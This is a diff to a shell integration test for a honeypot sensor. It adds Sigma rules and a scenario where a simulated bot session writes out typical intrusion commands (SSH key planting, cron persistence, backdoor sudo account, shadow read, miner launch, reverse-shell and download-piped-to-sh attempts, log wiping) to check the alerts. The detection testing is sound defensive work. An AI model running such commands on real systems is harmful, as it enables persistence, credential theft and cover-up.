@@ -29,7 +29,11 @@ idle_timeout_s = 20
 max_connections_per_source = 16
 pcap_rotate_mib = 1
 [forensics]
-yara_rules = \"$WORK/yara\""
+yara_rules = \"$WORK/yara\"
+[detection]
+sigma_rules = [\"$WORK/sigma\"]
+[outputs]
+jsonl_file = \"$WORK/outputs.jsonl\""
 world_up
 DATA_DIR="${OYSTER_DATA_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}"
 for a in $A11 $A12 $A13; do ip -n "$NS_ATTACKER" addr add "$a/24" dev "${tag}va"; done
@@ -44,6 +48,28 @@ head -c 1500000 /dev/urandom > "$WORK/www/tool.bin"
 # A script fetched, run with sh and deleted: only the guest kernel's kept
 # copy is left of it for the analysis.
 printf '#!/bin/sh\necho run-sh-ran\n# %s\n' "$RANDOM$RANDOM" > "$WORK/www/run.sh"
+# The operator's Sigma rules, beside the shipped ones: one of their own,
+# and one with an aggregation, which the sensor must name as not loaded.
+mkdir -p "$WORK/sigma"
+cat >"$WORK/sigma/operator_marker.yml" <<EOF
+title: Operator's marker command
+id: 6a0f3c1e-6d54-4c53-9d7e-2f5a1d0c0b01
+tags: [attack.execution, attack.t1059.004]
+logsource: {product: linux, category: process_creation}
+detection:
+    selection:
+        CommandLine|contains: oyster-sigma-marker
+    condition: selection
+level: low
+EOF
+cat >"$WORK/sigma/operator_aggregation.yml" <<EOF
+title: Many execs
+logsource: {product: linux, category: process_creation}
+detection:
+    selection:
+        Image|endswith: /sh
+    condition: selection | count() > 10
+EOF
 # The YARA rules: the shipped ones and one written for that file.
 mkdir -p "$WORK/yara"
 cp "$DATA_DIR"/rules/yara/*.yar "$WORK/yara/"
@@ -342,6 +368,75 @@ a_forged_address_stays_in_its_intrusion() {
 	log "an address forged in $A11's guest stayed in its own intrusion ($A10's session $bg_sid untouched)"
 }
 scenario a_forged_address_stays_in_its_intrusion after two_sources_get_two_guests
+
+# --- Sigma, live: a bot's session in .11's guest (run as `ssh host CMDS`,
+# as bots run it) raises each rule it should, as an `alert` event within
+# 5 s of the record that raised it, once per rule, in the store and the
+# outputs. .11's guest is the one no later scenario reads the disk of.
+sigma_alerts_live() {
+	grep -qF "operator_aggregation.yml: condition" "$WORK/sensor.log" ||
+		fail "the unsupported operator rule was not named at start"
+	grep -qF "Sigma rules live" "$WORK/sensor.log" || fail "the sensor did not say how many Sigma rules it runs"
+	portal_ssh $A11 "cd /tmp; cp /bin/sleep /tmp/.kswapd; (/tmp/.kswapd 20 &); sleep 1; rm -f /tmp/.kswapd
+		mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBotKeyBotKeyBotKeyBotKeyBotKeyBotKey bot' >> /root/.ssh/authorized_keys
+		(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.kswapd') | crontab -
+		useradd -m -G sudo sysadm; echo 'sysadm:Winter2026' | chpasswd
+		cat /etc/shadow >/dev/null; chattr +i /root/.ssh/authorized_keys
+		cp /bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.invalid:3333 --donate-level 1
+		timeout 3 bash -c 'exec 3<>/dev/tcp/$WEB_IP/6667' 2>/dev/null
+		wget -q -O - http://$WEB_IP/none.sh 2>/dev/null | sh
+		rm -rf /var/log/apt; history -c; echo oyster-sigma-marker" | matches oyster-sigma-marker ||
+		fail "the bot session did not run"
+	local expect=(
+		"SSH authorized_keys written" "Crontab installed or edited" "Cron table or job file written"
+		"Local account created" "Password changed" "Sudo rights granted" "Password hashes read"
+		"Program run from a temporary directory" "Running program deleted" "System log files deleted"
+		"Logs or history wiped by command" "File made immutable" "Cryptocurrency miner started"
+		"Connection to an IRC port" "Reverse shell" "Download piped to a shell" "Root logged in"
+		"Operator's marker command")
+	local deadline=$((SECONDS + 10)) missing r
+	while :; do
+		missing=()
+		for r in "${expect[@]}"; do
+			jq_any --arg r "$r" --arg ip $A11 'select(.type == "alert" and .engine == "sigma" and .rule == $r
+				and .intrusion_id != "" and .source_ip == $ip)' "$EVENTS" || missing+=("$r")
+		done
+		{ [ ${#missing[@]} = 0 ] || [ $SECONDS -ge $deadline ]; } && break
+		sleep 1
+	done
+	[ ${#missing[@]} = 0 ] || fail "no live alert for: ${missing[*]}"
+	# Live: each alert logged within 5 s of the guest's record (the guest's
+	# clock follows the host's), each rule once for the guest.
+	jq -s --arg ip $A11 '[.[] | select(.type == "alert" and .engine == "sigma" and .source_ip == $ip)
+		| {rule, lag: ((.ts | sub("\\.[0-9]+Z$"; "Z") | fromdate) - (.event_time | sub("\\.[0-9]+Z$"; "Z") | fromdate))}]' \
+		"$EVENTS" >"$WORK/sigma-lags.json"
+	jq -e 'all(.[]; .lag <= 5 and .lag >= -2)' "$WORK/sigma-lags.json" >/dev/null ||
+		fail "an alert came late: $(jq -c '[.[] | select(.lag > 5 or .lag < -2)]' "$WORK/sigma-lags.json")"
+	jq -e '[.[].rule] | length == (unique | length)' "$WORK/sigma-lags.json" >/dev/null ||
+		fail "a rule was raised twice for one guest"
+	jq_any 'select(.type == "alert" and .rule == "Cryptocurrency miner started" and (.tags | index("attack.t1496"))
+		and .severity == "critical" and (.detail | contains("stratum+tcp://")) and .category == "process_creation"
+		and .seq > 0)' "$EVENTS" || fail "the miner's alert lacks its technique, severity, detail or record"
+	# Nothing from the pool guests' boots: no alert without an intrusion.
+	jq_any 'select(.type == "alert" and .engine == "sigma" and .intrusion_id == "")' "$EVENTS" &&
+		fail "an alert without an intrusion (a pool guest's boot)"
+	local n=0
+	for _ in $(seq 10); do
+		n=$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT COUNT(*) FROM alerts a JOIN intrusions i ON i.id = a.intrusion_id
+			WHERE a.engine = 'sigma' AND i.source_ip = '$A11' AND a.seq > 0 AND a.category != ''")
+		[ "$n" -ge ${#expect[@]} ] && break
+		sleep 1
+	done
+	[ "$n" -ge ${#expect[@]} ] || fail "the store holds $n of .11's ${#expect[@]} Sigma alerts"
+	for _ in $(seq 10); do
+		jq_any 'select(.type == "alert" and .rule == "Cryptocurrency miner started")' "$WORK/outputs.jsonl" && break
+		sleep 1
+	done
+	jq_any 'select(.type == "alert" and .rule == "Cryptocurrency miner started")' "$WORK/outputs.jsonl" ||
+		fail "the outputs did not get the miner's alert"
+	log "sigma: ${#expect[@]} rules raised live for $A11, lag min/max $(jq -c '[.[].lag] | [min, max]' "$WORK/sigma-lags.json") s"
+}
+scenario sigma_alerts_live after two_sources_get_two_guests
 
 # The web API on the sensor's loopback: nothing without the token; with it,
 # the sessions, and the typed session's recording while it is still live;
